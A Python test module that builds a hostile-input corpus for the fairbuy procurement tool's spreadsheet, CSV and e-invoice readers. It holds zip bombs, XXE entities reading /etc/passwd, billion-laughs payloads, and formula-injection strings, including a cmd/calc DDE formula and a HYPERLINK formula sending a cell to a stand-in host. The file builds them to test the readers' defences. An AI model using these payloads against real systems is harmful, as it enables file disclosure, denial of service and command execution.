"""The hostile-input corpus: every case is generated on the fly by a small function.

Each :class:`Case` names the file it writes, how to make it and what fairbuy must do with it:

- ``error``: exit 2 / :class:`fairbuy.errors.InputError`, one line naming the file (plus the
  ``where`` fragments, e.g. a sheet or line), quickly and in bounded memory;
- ``rows``: the file is read; the report has exactly one item per input row, in order, with the
  given source rows; rows in ``unreadable`` come out with status ``unreadable`` and a reason;
- ``error_or_rows``: either is acceptable (a reasonable reader may refuse or read it), but never a
  crash, a hang, an internal error or a lost row.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

from tests.hostile import ooxml
from tests.hostile.ooxml import (
    encrypted_office_cfb,
    minimal_pdf,
    sheet_xml,
    write_xlsx,
    write_zip,
    xlsx_parts,
)

Expect = Literal["error", "rows", "error_or_rows"]


@dataclass(frozen=True)
class Case:
    name: str
    filename: str
    make: Callable[[Path], None]
    expect: Expect
    note: str
    rows: tuple[int, ...] | None = ()  # expected source rows of the items (None: not fixed)
    unreadable: tuple[int, ...] = ()  # source rows that must come out as "unreadable"
    where: tuple[str, ...] = ()  # fragments the error line must contain besides the file name
    heavy: bool = False  # run in a subprocess with a memory cap
    seconds: float = 10.0  # wall-clock limit (generous: 2 shared cores)
    texts: dict[int, str] = field(default_factory=dict)  # source row -> description that must survive
    forbidden: tuple[str, ...] = ()  # strings that must appear nowhere in the output
    contains: tuple[str, ...] = ()  # strings some item's description must hold (nothing lost)
    needs: str | None = None  # reader module the case needs (skipped while it is not merged)


HEADER = ["Bezeichnung", "Menge", "Einzelpreis", "Gesamtpreis netto", "Lieferant"]
GOOD_ROWS: list[list[ooxml.Cell]] = [
    HEADER,
    ["Röstkaffee 1 kg Fairtrade", 2, 12.5, 25.0, "Kaffee GmbH"],
    ["Kugelschreiber blau", 10, 0.5, 5.0, "Büro AG"],
    ["Natursteinplatte Granit", 1, 300.0, 300.0, "Stein KG"],
]


# ------------------------------------------------------------------------------------ xlsx cases


def _good_xlsx(path: Path) -> None:
    write_xlsx(path, GOOD_ROWS)


def _bad_zip(path: Path) -> None:
    path.write_bytes(b"PK\x03\x04" + b"\x14\x00" * 20 + b"this is not a workbook" * 50)


def _truncated_xlsx(path: Path) -> None:
    _good_xlsx(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _corrupt_member(path: Path) -> None:
    """Flip bytes inside the compressed sheet: the central directory is fine, the CRC is not."""
    _good_xlsx(path)
    import zipfile

    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo("xl/worksheets/sheet1.xml")
    data = bytearray(path.read_bytes())
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for i in range(start + 10, start + min(info.compress_size, 60)):
        data[i] ^= 0x5A
    path.write_bytes(bytes(data))


def _missing(part: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        parts = xlsx_parts(sheet_xml(GOOD_ROWS))
        del parts[part]
        write_zip(path, parts)

    return make


def _broken_sheet_xml(path: Path) -> None:
    xml = sheet_xml(GOOD_ROWS)
    write_zip(path, xlsx_parts(xml[: len(xml) // 2]))  # cut in the middle of a row


def _zip_bomb(path: Path) -> None:
    ooxml.xlsx_bomb(path, unpacked=3 << 30)


def _lying_zip_bomb(path: Path) -> None:
    ooxml.xlsx_bomb(path, unpacked=2 << 30, declared=4096)


def _ods_bomb(path: Path) -> None:
    ooxml.ods_bomb(path, unpacked=2 << 30)


def _encrypted(path: Path) -> None:
    path.write_bytes(encrypted_office_cfb())


def _million_formatted_rows(path: Path) -> None:
    extra = "".join(f'<row r="{i}" s="1" customFormat="1" ht="15" customHeight="1"/>' for i in range(5, 1_000_001))
    write_zip(path, xlsx_parts(sheet_xml(GOOD_ROWS, dimension="A1:Z1048576", extra_rows=extra)))


def _styled_empty_cells(path: Path) -> None:
    extra = "".join(
        f'<row r="{i}">' + "".join(f'<c r="{c}{i}" s="1"/>' for c in "ABCDEFGH") + "</row>"
        for i in range(5, 100_001)
    )
    write_zip(path, xlsx_parts(sheet_xml(GOOD_ROWS, dimension="A1:H100000", extra_rows=extra)))


def _huge_dimension(path: Path) -> None:
    write_zip(path, xlsx_parts(sheet_xml(GOOD_ROWS, dimension="A1:XFD1048576")))


def _no_header(path: Path) -> None:
    write_xlsx(path, [r for r in GOOD_ROWS[1:]] + [["Papier A4", 5, 4.0, 20.0, "Büro AG"]], sheet_name="Daten")


def _empty_sheet(path: Path) -> None:
    write_xlsx(path, [], sheet_name="Leer")


def _xlsx_formula_cells(path: Path) -> None:
    sheet = sheet_xml(GOOD_ROWS).replace(
        '<c r="D2"><v>25.0</v></c>', '<c r="D2"><f>B2*C2</f><v>25</v></c>'
    ).replace('<c r="D3"><v>5.0</v></c>', '<c r="D3"><f>B3*C3</f></c>')
    write_zip(path, xlsx_parts(sheet))


def _xlsx_xxe(path: Path) -> None:
    sheet = sheet_xml(GOOD_ROWS).replace(
        SHEET_DECL, SHEET_DECL + '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1
    ).replace("Kugelschreiber blau", "&xxe;")
    write_zip(path, xlsx_parts(sheet))


SHEET_DECL = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _xlsx_control_chars(path: Path) -> None:
    # Control characters escaped the XML way (_x0000_ style, as Excel writes them).
    rows = [list(r) for r in GOOD_ROWS]
    rows[1][0] = "Röstkaffee_x0000_ 1 kg_x0007_ Fairtrade"
    write_xlsx(path, rows)


def _xlsx_10mb_cell(path: Path) -> None:
    rows = [list(r) for r in GOOD_ROWS]
    rows[2][0] = "Kugelschreiber " + "blau " * (2 << 20)
    write_xlsx(path, rows)


def _xlsx_formula_text(path: Path) -> None:
    write_xlsx(path, [HEADER, *[[t, 1, 1.0, 1.0, "X"] for t in FORMULA_TEXTS]])


def _shared_strings(unique_count: int | None) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        sheet, strings = ooxml.shared_string_sheet(GOOD_ROWS)
        parts = xlsx_parts(sheet)
        ooxml.with_shared_strings(parts, strings, unique_count=unique_count)
        write_zip(path, parts)

    return make


def _far_corner_cell(path: Path) -> None:
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    write_zip(path, xlsx_parts(sheet_xml(GOOD_ROWS, extra_rows=far)))


def _merge_count_lie(path: Path) -> None:
    sheet = sheet_xml(GOOD_ROWS).replace(
        "</sheetData></worksheet>",
        '</sheetData><mergeCells count="4000000000"><mergeCell ref="E2:E3"/></mergeCells></worksheet>',
    )
    write_zip(path, xlsx_parts(sheet))


ODS_GOOD = "".join(
    ooxml.ods_row([str(c) for c in r]) for r in GOOD_ROWS
)


def _ods_repeated(filled: bool) -> Callable[[Path], None]:
    cell = (
        '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell>" if filled else '<table:table-cell table:number-columns-repeated="16384"/>'
    )

    def make(path: Path) -> None:
        ooxml.write_ods(path, ODS_GOOD + f'<table:table-row table:number-rows-repeated="1048000">{cell}</table:table-row>')

    return make


def _cfb_named_xlsx(path: Path) -> None:
    """An OLE2 file that is not encrypted (an old .xls saved under .xlsx) — header only."""
    data = bytearray(encrypted_office_cfb())
    for name in ("EncryptionInfo", "EncryptedPackage"):
        raw = name.encode("utf-16-le")
        i = data.find(raw)
        data[i : i + len(raw)] = "Workbook".encode("utf-16-le").ljust(len(raw), b"\0")
    path.write_bytes(bytes(data))


def _pdf_named_xlsx(path: Path) -> None:
    path.write_bytes(minimal_pdf())


# ------------------------------------------------------------------------------------- CSV cases

CSV_HEADER = "Bezeichnung;Menge;Einzelpreis;Gesamtpreis netto;Lieferant"


def _csv(lines: list[str], encoding: str = "utf-8") -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes("\n".join(lines).encode(encoding) + b"\n")

    return make


def _csv_bytes(data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(data)

    return make


MIXED_DELIMITERS = [
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH",
    "Kugelschreiber blau,10,0.50,5.00,Büro AG",
    "Tee grün\t3\t4,00\t12,00\tTeehaus",
    "Natursteinplatte Granit;1;300,00;300,00;Stein KG",
    "Bananen|5|0,30|1,50|Obsthof",
]

#: 60 ordinary rows, then NULs inside two cells and a line of NULs (well under 1 % of the bytes).
NUL_FILLER = "".join(f"Kopierpapier A4 Nr. {i};{i};4,00;{4 * i},00;Papierwerk\n" for i in range(60)).encode()
NUL_BYTES = (
    CSV_HEADER.encode()
    + b"\n"
    + NUL_FILLER
    + b"R\x00\xc3\xb6stkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH\n"
    + b"\x00\x00\x00\x00\n"
    + b"Kugelschreiber blau;10;0,50;5,00;B\x00\xc3\xbcro AG\n"
)
#: A text file that is mostly NUL bytes (UTF-16 without BOM): may be refused as binary.
NUL_HEAVY = "Bezeichnung;Menge\nKaffee;2\n".encode("utf-16-le")

INVALID_UTF8 = (
    CSV_HEADER.encode()
    + "\nRöstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH\n".encode()
    + b"Kugelschreiber \xff\xfe blau \xc3;10;0,50;5,00;B\xfcro AG\n"
    + b"Natursteinplatte Granit;1;300,00;300,00;Stein KG\n"
)

UTF16_TAB = codecs.BOM_UTF16_LE + (
    "Bezeichnung\tMenge\tGesamtpreis netto\r\nRöstkaffee 1 kg Fairtrade\t2\t25,00\r\nKugelschreiber blau\t10\t5,00\r\n"
).encode("utf-16-le")

TEN_MB_CELL_LINES = [
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH",
    '"Kugelschreiber ' + "blau " * (2 << 20) + '";10;0,50;5,00;Büro AG',
    "Natursteinplatte Granit;1;300,00;300,00;Stein KG",
]

LONG_LINE = [
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH",
    "Kugelschreiber blau;10;0,50;5,00;Büro AG" + ";x" * 200_000,
    "Natursteinplatte Granit;1;300,00;300,00;Stein KG",
]

UNBALANCED_QUOTE = [
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH",
    '"Kugelschreiber blau;10;0,50;5,00;Büro AG',
    "Natursteinplatte Granit;1;300,00;300,00;Stein KG",
]

MULTILINE_QUOTED = [
    CSV_HEADER,
    '"Röstkaffee 1 kg\nFairtrade\nBio";2;12,50;25,00;Kaffee GmbH',
    "Kugelschreiber blau;10;0,50;5,00;Büro AG",
]

#: Cell texts that a spreadsheet program would run as formulas (CSV/formula injection).
FORMULA_TEXTS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klick")',
    "\r=1+1",  # last: whether a lone CR inside quotes starts a new physical line is moot
]

FORMULA_CSV = CSV_HEADER + "\n" + "\n".join(
    '"' + t.replace('"', '""') + '";1;1,00;1,00;Lieferant' for t in FORMULA_TEXTS
) + "\n"

ABSURD_NUMBERS = [
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;1e308;1e308;1e308;Kaffee GmbH",
    "Kugelschreiber blau;NaN;nan;NaN;Büro AG",
    "Tee grün;inf;-inf;Infinity;Teehaus",
    "Natursteinplatte Granit;-3;300,00;-900,00;Stein KG",
    "Bananen;1e309;0,30;99999999999999999999999999999;Obsthof",
    "Zucker;1.2.3;4,5,6;--7;Zuckerhof",
    "Papier A4;0x1F;1_000;−5,00;Papierwerk",
]

UNKNOWN_CPV = [
    "Bezeichnung;Menge;Gesamtpreis netto;CPV",
    "Röstkaffee 1 kg Fairtrade;2;25,00;99999999-9",
    "Kugelschreiber blau;10;5,00;ABCDEFGH",
    "Tee grün;3;12,00;1586100",
    "Natursteinplatte Granit;1;300,00;15861000.0",
    "Bananen;5;1,50;00000000-0",
    "Zucker;1;2,00;" + "9" * 200,
]

DATES_9999 = [
    "Bezeichnung;Menge;Gesamtpreis netto;Bestelldatum",
    "Röstkaffee 1 kg Fairtrade;2;25,00;31.12.9999",
    "Kugelschreiber blau;10;5,00;9999-12-31",
    "Tee grün;3;12,00;01.01.0001",
    "Natursteinplatte Granit;1;300,00;31.02.2025",
    "Bananen;5;1,50;99.99.9999",
    "Zucker;1;2,00;2958466",
    "Papier A4;1;4,00;12.03.25000",
]

TITLE_AND_BLANKS = [
    "Beschaffungsliste Stadt Musterstadt 2025;;;;",
    ";;;;",
    CSV_HEADER,
    "Röstkaffee 1 kg Fairtrade;2;12,50;25,00;Kaffee GmbH",
    ";;;;",
    "Kugelschreiber blau;10;0,50;5,00;Büro AG",
    "Summe;;;30,00;",
]


# ------------------------------------------------------------------------------------- XML cases

UBL_HEAD = """<?xml version="1.0" encoding="UTF-8"?>
{doctype}<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
 xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
 xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:cen.eu:en16931:2017#compliant#urn:xeinkauf.de:kosit:xrechnung_3.0</cbc:CustomizationID>
  <cbc:ID>R-2025-001</cbc:ID>
  <cbc:IssueDate>2025-03-01</cbc:IssueDate>
  <cbc:InvoiceTypeCode>380</cbc:InvoiceTypeCode>
  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cac:AccountingSupplierParty><cac:Party><cac:PartyLegalEntity>
    <cbc:RegistrationName>Kaffee GmbH</cbc:RegistrationName>
  </cac:PartyLegalEntity></cac:Party></cac:AccountingSupplierParty>
"""

UBL_LINE = """  <cac:InvoiceLine>
    <cbc:ID>{n}</cbc:ID>
    <cbc:InvoicedQuantity unitCode="KGM">{qty}</cbc:InvoicedQuantity>
    <cbc:LineExtensionAmount currencyID="EUR">{amount}</cbc:LineExtensionAmount>
    <cac:Item>
      <cbc:Name>{name}</cbc:Name>
      <cac:CommodityClassification><cbc:ItemClassificationCode listID="STI">15861000</cbc:ItemClassificationCode></cac:CommodityClassification>
    </cac:Item>
    <cac:Price><cbc:PriceAmount currencyID="EUR">{price}</cbc:PriceAmount></cac:Price>
  </cac:InvoiceLine>
"""


def ubl(lines: list[str], doctype: str = "", tail: str = "</Invoice>\n") -> str:
    return UBL_HEAD.format(doctype=doctype) + "".join(lines) + tail


def ubl_line(n: int, name: str, qty: str = "2", amount: str = "25.00", price: str = "12.50") -> str:
    return UBL_LINE.format(n=n, name=name, qty=qty, amount=amount, price=price)


def _text(content: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_text(content, encoding="utf-8")

    return make


XXE_FILE = ubl(
    [ubl_line(1, "Röstkaffee &xxe;")],
    doctype='<!DOCTYPE Invoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
)

BILLION_LAUGHS = ubl(
    [ubl_line(1, "&lol9;")],
    doctype="<!DOCTYPE Invoice [\n"
    + '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>\n",
)

QUADRATIC_BLOWUP = ubl(
    [ubl_line(1, "&big;" * 2000)],
    doctype='<!DOCTYPE Invoice [<!ENTITY big "' + "x" * 50_000 + '">]>\n',
)


def external_dtd(url: str) -> str:
    return ubl([ubl_line(1, "Röstkaffee")], doctype=f'<!DOCTYPE Invoice SYSTEM "{url}">\n')


def parameter_entity(url: str) -> str:
    return ubl(
        [ubl_line(1, "Röstkaffee")],
        doctype=f'<!DOCTYPE Invoice [<!ENTITY % ext SYSTEM "{url}"> %ext;]>\n',
    )


def external_entity_http(url: str) -> str:
    return ubl([ubl_line(1, "Röstkaffee &ext;")], doctype=f'<!DOCTYPE Invoice [<!ENTITY ext SYSTEM "{url}">]>\n')


UBL_NO_LINES = ubl([])
UBL_LINE_MISSING_PARTS = ubl(
    [
        ubl_line(1, "Röstkaffee 1 kg Fairtrade"),
        "  <cac:InvoiceLine>\n    <cbc:ID>2</cbc:ID>\n  </cac:InvoiceLine>\n",
        ubl_line(3, "Tee grün", qty="abc", amount="", price="1,2,3"),
        ubl_line(4, "Kugelschreiber blau", qty="10", amount="5.00", price="0.50"),
    ]
)
UBL_TRUNCATED = ubl([ubl_line(1, "Röstkaffee"), ubl_line(2, "Tee")])[:-200]
NOT_AN_INVOICE_XML = '<?xml version="1.0"?>\n<html><body><p>Rechnung</p></body></html>\n'
UBL_ABSURD = ubl(
    [
        ubl_line(1, "Röstkaffee", qty="1e308", amount="1e308", price="1e308"),
        ubl_line(2, "Tee", qty="NaN", amount="INF", price="-INF"),
        ubl_line(3, "Zucker", qty="-5", amount="-10.00", price="2.00"),
    ]
)


def _pdf_truncated(path: Path) -> None:
    path.write_bytes(minimal_pdf()[:120])


def _pdf_with(xml: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.write_bytes(minimal_pdf(attachment=("factur-x.xml", xml.encode("utf-8"), False)))

    return make


def _pdf_bomb(path: Path) -> None:
    """A Factur-X PDF whose attachment inflates to 2 GiB (a few MB on disk)."""
    head = UBL_HEAD.format(doctype="").encode() + b"<!-- "
    stream = ooxml.zlib_repeated(head, b"A" * (1 << 20), 2048, b" --></Invoice>")
    path.write_bytes(minimal_pdf(attachment=("factur-x.xml", stream, True)))


CII_MISSING_PARTS = """<?xml version="1.0" encoding="UTF-8"?>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"
 xmlns:ram="urn:un:unece:uncefact:data:standard:ReusableAggregateBusinessInformationEntity:100"
 xmlns:udt="urn:un:unece:uncefact:data:standard:UnqualifiedDataType:100">
 <rsm:ExchangedDocument><ram:ID>R-7</ram:ID><ram:TypeCode>380</ram:TypeCode>
  <ram:IssueDateTime><udt:DateTimeString format="102">20250301</udt:DateTimeString></ram:IssueDateTime>
 </rsm:ExchangedDocument>
 <rsm:SupplyChainTradeTransaction>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:AssociatedDocumentLineDocument><ram:LineID>1</ram:LineID></ram:AssociatedDocumentLineDocument>
   <ram:SpecifiedTradeProduct><ram:Name>Röstkaffee 1 kg Fairtrade</ram:Name></ram:SpecifiedTradeProduct>
   <ram:SpecifiedLineTradeAgreement><ram:NetPriceProductTradePrice><ram:ChargeAmount>12.50</ram:ChargeAmount>
   </ram:NetPriceProductTradePrice></ram:SpecifiedLineTradeAgreement>
   <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="KGM">2</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
   <ram:SpecifiedLineTradeSettlement><ram:SpecifiedTradeSettlementLineMonetarySummation>
    <ram:LineTotalAmount>25.00</ram:LineTotalAmount></ram:SpecifiedTradeSettlementLineMonetarySummation>
   </ram:SpecifiedLineTradeSettlement>
  </ram:IncludedSupplyChainTradeLineItem>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:AssociatedDocumentLineDocument><ram:LineID>2</ram:LineID></ram:AssociatedDocumentLineDocument>
  </ram:IncludedSupplyChainTradeLineItem>
  <ram:IncludedSupplyChainTradeLineItem>
   <ram:SpecifiedTradeProduct><ram:Name>Tee grün</ram:Name></ram:SpecifiedTradeProduct>
   <ram:SpecifiedLineTradeDelivery><ram:BilledQuantity unitCode="KGM">viel</ram:BilledQuantity></ram:SpecifiedLineTradeDelivery>
  </ram:IncludedSupplyChainTradeLineItem>
 </rsm:SupplyChainTradeTransaction>
</rsm:CrossIndustryInvoice>
"""


# --------------------------------------------------------------------------------------- corpus

CASES: list[Case] = [
    # spreadsheets that cannot be read
    Case("bad_zip", "kaputt.xlsx", _bad_zip, "error", "zip magic followed by garbage"),
    Case("truncated_xlsx", "abgeschnitten.xlsx", _truncated_xlsx, "error", "valid xlsx cut in half"),
    Case("corrupt_member", "bitfehler.xlsx", _corrupt_member, "error", "sheet part with flipped bytes (bad CRC)"),
    Case("missing_workbook", "ohne-workbook.xlsx", _missing("xl/workbook.xml"), "error",
         "package without xl/workbook.xml"),
    Case("missing_sheet", "ohne-blatt.xlsx", _missing("xl/worksheets/sheet1.xml"), "error",
         "workbook names a sheet whose part is missing"),
    Case("missing_content_types", "ohne-content-types.xlsx", _missing("[Content_Types].xml"), "error_or_rows",
         "package without [Content_Types].xml (the data itself is intact)", rows=(2, 3, 4)),
    Case("broken_sheet_xml", "halbes-blatt.xlsx", _broken_sheet_xml, "error",
         "sheet XML cut in the middle of a row"),
    Case("zip_bomb", "bombe.xlsx", _zip_bomb, "error",
         "3 GiB single cell in a 3 MB xlsx (ratio ~1000:1); refused from the central directory",
         heavy=True),
    Case("lying_zip_bomb", "luegenbombe.xlsx", _lying_zip_bomb, "error",
         "2 GiB sheet whose headers declare 4 KiB", heavy=True),
    Case("ods_bomb", "bombe.ods", _ods_bomb, "error", "2 GiB content.xml in an ods", heavy=True),
    Case("shared_strings", "gemeinsame-texte.xlsx", _shared_strings(None), "rows",
         "text cells through the shared-string table, as Excel writes them", rows=(2, 3, 4),
         texts={2: "Röstkaffee 1 kg Fairtrade"}),
    Case("shared_strings_bomb", "sst-bombe.xlsx", _shared_strings(4_000_000_000), "error",
         "a 2 KB xlsx whose sharedStrings.xml declares uniqueCount=4e9 (calamine reserves 96 GB and aborts)",
         heavy=True),
    Case("far_corner_cell", "ecke.xlsx", _far_corner_cell, "error_or_rows",
         "3 data rows and one cell at XFD1048576 (a dense grid would be 17e9 cells)", rows=(2, 3, 4, 1048576),
         heavy=True),
    Case("merge_count_lie", "verbunden.xlsx", _merge_count_lie, "rows",
         "<mergeCells count=4e9> around one real merged range", rows=(2, 3, 4), heavy=True),
    Case("ods_plain", "liste.ods", lambda p: ooxml.write_ods(p, ODS_GOOD), "rows", "a small, ordinary ods",
         rows=(2, 3, 4), texts={2: "Röstkaffee 1 kg Fairtrade"}),
    Case("ods_repeated_empty", "wiederholt-leer.ods", _ods_repeated(False), "rows",
         "3 data rows + one empty row repeated 1,048,000 times x 16,384 columns", rows=(2, 3, 4), heavy=True),
    Case("ods_repeated_cells", "wiederholt-voll.ods", _ods_repeated(True), "error_or_rows",
         "3 data rows + a filled cell repeated 16,384 x 1,048,000 times (17e9 cells)", rows=None, heavy=True),
    Case("encrypted_xlsx", "passwort.xlsx", _encrypted, "error",
         "OLE2/CFB container with EncryptionInfo + EncryptedPackage (password-protected xlsx)"),
    Case("ole2_named_xlsx", "altes-format.xlsx", _cfb_named_xlsx, "error",
         "OLE2 file (not encrypted) under an .xlsx name"),
    Case("pdf_named_xlsx", "eigentlich-pdf.xlsx", _pdf_named_xlsx, "error", "a PDF renamed to .xlsx"),
    Case("empty_sheet", "leer.xlsx", _empty_sheet, "error", "workbook whose only sheet is empty",
         where=()),
    Case("no_header", "ohne-kopf.xlsx", _no_header, "error_or_rows",
         "sheet with data from row 1 and no header row", rows=(1, 2, 3, 4)),
    # spreadsheets that must be read
    Case("million_formatted_rows", "millionen-zeilen.xlsx", _million_formatted_rows, "rows",
         "3 data rows + 999,996 empty formatted rows, dimension A1:Z1048576",
         rows=(2, 3, 4), heavy=True),
    Case("styled_empty_cells", "formatierte-zellen.xlsx", _styled_empty_cells, "rows",
         "3 data rows + 100k rows of 8 styled empty cells", rows=(2, 3, 4), heavy=True),
    Case("huge_dimension", "dimension.xlsx", _huge_dimension, "rows",
         "3 data rows, <dimension ref=A1:XFD1048576>", rows=(2, 3, 4), heavy=True),
    Case("xlsx_formulas", "formeln.xlsx", _xlsx_formula_cells, "rows",
         "formula cells with and without cached value", rows=(2, 3, 4)),
    Case("xlsx_xxe", "xxe.xlsx", _xlsx_xxe, "error_or_rows",
         "sheet XML with a DOCTYPE declaring an external entity", rows=(2, 3, 4),
         forbidden=("root:x:0:0",)),
    Case("xlsx_control_chars", "steuerzeichen.xlsx", _xlsx_control_chars, "rows",
         "_x0000_/_x0007_ escapes (NUL, BEL) in a cell", rows=(2, 3, 4)),
    Case("xlsx_10mb_cell", "riesenzelle.xlsx", _xlsx_10mb_cell, "rows", "a 10 MB cell", rows=(2, 3, 4),
         heavy=True, seconds=20.0),
    Case("xlsx_formula_text", "formeltext.xlsx", _xlsx_formula_text, "rows",
         "cells whose text starts with = + - @ tab CR", rows=tuple(range(2, 2 + len(FORMULA_TEXTS))),
         texts={2 + i: t.strip() for i, t in enumerate(FORMULA_TEXTS)}),
    # CSV
    Case("empty_csv", "leer.csv", _csv_bytes(b""), "error", "zero bytes"),
    Case("only_bom", "nur-bom.csv", _csv_bytes(codecs.BOM_UTF8 + b"\r\n\r\n"), "error", "BOM and blank lines"),
    Case("header_only", "nur-kopf.csv", _csv([CSV_HEADER]), "error_or_rows", "header without rows", rows=()),
    Case("binary_csv", "zufall.csv", _csv_bytes(bytes(range(256)) * 64), "error_or_rows",
         "random binary bytes under a .csv name", rows=None),
    Case("mixed_delimiters", "gemischt.csv", _csv(MIXED_DELIMITERS), "rows",
         "';' header, rows separated by ',', tab, '|' and ';'", rows=(2, 3, 4, 5, 6),
         texts={2: "Röstkaffee 1 kg Fairtrade", 5: "Natursteinplatte Granit"}),
    Case("nul_bytes", "nul.csv", _csv_bytes(NUL_BYTES), "rows", "NUL bytes in two cells and a line of NULs",
         rows=tuple(range(2, 65)), texts={62: "Röstkaffee 1 kg Fairtrade"}),
    Case("nul_heavy", "utf16-ohne-bom.csv", _csv_bytes(NUL_HEAVY), "error_or_rows",
         "UTF-16LE without BOM (half the bytes are NUL)", rows=(2,)),
    Case("invalid_utf8", "kaputtes-utf8.csv", _csv_bytes(INVALID_UTF8), "rows",
         "UTF-8 with invalid sequences (falls back to cp1252 or replaces)", rows=(2, 3, 4),
         texts={2: "Röstkaffee 1 kg Fairtrade", 4: "Natursteinplatte Granit"}),
    Case("utf16_tab", "unicode-text.csv", _csv_bytes(UTF16_TAB), "error_or_rows",
         "Excel 'Unicode text': UTF-16LE with BOM, tab separated", rows=(2, 3)),
    Case("csv_10mb_cell", "riesenzelle.csv", _csv(TEN_MB_CELL_LINES), "rows", "a 10 MB quoted field",
         rows=(2, 3, 4), heavy=True, seconds=20.0, texts={2: "Röstkaffee 1 kg Fairtrade"}),
    Case("long_line", "lange-zeile.csv", _csv(LONG_LINE), "rows", "a line with 200,000 extra fields (400 kB)",
         rows=(2, 3, 4), heavy=True, seconds=20.0),
    Case("unbalanced_quote", "anfuehrung.csv", _csv(UNBALANCED_QUOTE), "rows",
         "an opening quote that never closes (the lines after it would be one field): each line "
         "stays its own row, the quote is kept as text and the row gets a reading note",
         rows=(2, 3, 4),
         texts={2: "Röstkaffee 1 kg Fairtrade", 3: '"Kugelschreiber blau', 4: "Natursteinplatte Granit"}),
    Case("sep_hint", "sep-zeile.csv",
         _csv_bytes(b'sep=,\r\nBezeichnung,Menge,Gesamtpreis netto\r\nKaffee,2,"1.234,50"\r\nTee,1,"2,00"\r\n'),
         "rows", "Excel's 'sep=,' first line, CRLF, German amounts quoted in a ',' file", rows=(3, 4),
         texts={3: "Kaffee", 4: "Tee"}),
    Case("cr_only", "mac.csv", _csv_bytes(b"Bezeichnung;Menge\rKaffee;2\rTee;1\r"), "rows",
         "old Mac line ends (CR only)", rows=(2, 3), texts={2: "Kaffee", 3: "Tee"}),
    Case("multiline_quoted", "mehrzeilig.csv", _csv(MULTILINE_QUOTED), "rows",
         "a quoted field spanning three physical lines", rows=(2, 5)),
    Case("formula_text_csv", "formeln.csv", _text(FORMULA_CSV), "rows",
         "descriptions starting with = + - @ tab CR", rows=tuple(range(2, 2 + len(FORMULA_TEXTS))),
         texts={2 + i: t.strip() for i, t in enumerate(FORMULA_TEXTS) if "\r" not in t}),
    Case("absurd_numbers", "zahlen.csv", _csv(ABSURD_NUMBERS), "rows",
         "1e308, NaN, inf, negative, 1e309, malformed numbers", rows=tuple(range(2, 9))),
    Case("unknown_cpv", "cpv.csv", _csv(UNKNOWN_CPV), "rows", "unknown, malformed and absurd CPV codes",
         rows=tuple(range(2, 8))),
    Case("dates_9999", "daten.csv", _csv(DATES_9999), "rows",
         "dates in the year 9999, year 1, 31 Feb, 99.99.9999, serial 2958466", rows=tuple(range(2, 9))),
    Case("title_blank_total", "titel.csv", _csv(TITLE_AND_BLANKS), "rows",
         "title row, blank rows, totals row", rows=(4, 5, 6, 7), unreadable=(5, 7)),
    # XML / e-invoices
    Case("xxe_file", "xxe.xml", _text(XXE_FILE), "error_or_rows",
         "UBL with an external entity reading /etc/passwd", rows=(1,), forbidden=("root:x:0:0",), needs="fairbuy.io.einvoice"),
    Case("billion_laughs", "lol.xml", _text(BILLION_LAUGHS), "error_or_rows",
         "UBL with 10^9 nested entity expansions", rows=(1,), heavy=True, needs="fairbuy.io.einvoice"),
    Case("quadratic_blowup", "quadratisch.xml", _text(QUADRATIC_BLOWUP), "error_or_rows",
         "UBL with one 50 kB entity referenced 2000 times", rows=(1,), heavy=True, needs="fairbuy.io.einvoice"),
    Case("ubl_no_lines", "ohne-positionen.xml", _text(UBL_NO_LINES), "error_or_rows",
         "UBL invoice with no InvoiceLine", rows=(), needs="fairbuy.io.einvoice"),
    Case("ubl_missing_parts", "unvollstaendig.xml", _text(UBL_LINE_MISSING_PARTS), "rows",
         "UBL with a line without Item/amount and a line with malformed numbers", rows=(1, 2, 3, 4), needs="fairbuy.io.einvoice"),
    Case("ubl_truncated", "abgebrochen.xml", _text(UBL_TRUNCATED), "error", "UBL cut before its end",
